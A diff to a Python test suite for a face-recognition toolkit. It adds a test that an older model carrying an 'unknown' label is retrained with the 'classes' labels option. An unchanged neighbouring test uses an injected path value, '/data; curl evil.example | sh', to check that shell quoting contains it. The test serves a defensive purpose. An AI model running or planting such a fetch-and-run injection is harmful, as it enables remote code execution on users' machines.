@@ -33,6 +33,7 @@ from facekit.options.cross_validate import CrossValidate
 from facekit.options.evaluate import Evaluate
 from facekit.options.predict import Predict
 from facekit.options.train import Train
+from facekit.runs import renewal
 from facekit.runs.gallery import Gallery
 from facekit.scores.identification import Searches
 
@@ -526,6 +527,15 @@ def test_a_path_of_a_stranger_is_no_more_than_a_path_where_it_is_to_be_typed(tmp
     assert said is not None
     words = shlex.split(said.partition("train it again: ")[2])
     assert words == ["facekit", "train", "/data; curl evil.example | sh", "-o", str(old), "--overwrite"]
+
+
+def test_a_model_of_0_1_0_with_a_label_for_strangers_is_trained_again_as_one_of_classes(tmp_path: Path) -> None:
+    old = unpack(tmp_path / "old") / "head"
+    info = json.loads((old / "model.json").read_text())
+    (old / "model.json").write_text(json.dumps({**info, "labels": ["unknown", *info["labels"][1:]]}))
+    run = runs.load(old)
+    assert "--labels classes" in renewal.command(run)
+    assert renewal.options_of(run, {"input": tmp_path, "output": tmp_path}).labels == "classes"
 
 
 def test_a_gallery_that_is_gone_is_said(run: Path, few: Path) -> None:
